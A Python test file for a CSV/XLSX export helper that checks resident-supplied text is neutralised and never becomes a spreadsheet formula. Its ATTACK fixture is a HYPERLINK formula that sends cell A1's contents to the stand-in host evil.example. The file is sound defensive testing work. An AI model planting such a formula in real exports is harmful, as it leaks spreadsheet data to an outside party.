"""The one export helper: streamed CSV/XLSX where resident text never becomes a formula."""

import csv
import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from neighbourhoods import exports

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _csv(rows):
    text = "".join(exports.csv_lines(rows))
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx(rows):
    buffer = io.BytesIO()
    exports.xlsx_write(buffer, [("Sheet", rows)])
    return buffer.getvalue()


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_neutralises_every_formula_start():
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK]
    rows = _csv([[value] for value in starts])
    assert [row[0] for row in rows] == ["'" + value for value in starts]


def test_csv_keeps_numbers_and_plain_text():
    assert _csv([[-3, 4.5, "Jean D.", "< 5", None]]) == [["-3", "4.5", "Jean D.", "< 5", ""]]


def test_xlsx_writes_formula_text_as_a_string_never_a_formula():
    data = _xlsx([["name", "answer"], ["=Dupont", ATTACK], ["#N/A", -2]])
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].value == ATTACK and sheet["B2"].data_type == "s"
    assert sheet["B2"].quotePrefix
    assert sheet["A3"].data_type == "s"
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"


def test_xlsx_drops_characters_xml_cannot_hold():
    sheet = load_workbook(io.BytesIO(_xlsx([["a\x01b\x0bc"]]))).active
    assert sheet["A1"].value == "abc"


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_round_trips_or_is_neutralised(values):
    (row,) = _csv([values])
    for sent, got in zip(values, row, strict=True):
        expected = "'" + sent if sent.startswith(exports.FORMULA_STARTS) else sent
        # The csv module turns a lone \r into a line end inside quotes: compare without them.
        assert got.replace("\r", "") == expected.replace("\r", "")
    xml = _sheet_xml(_xlsx([values]))
    assert "<f>" not in xml
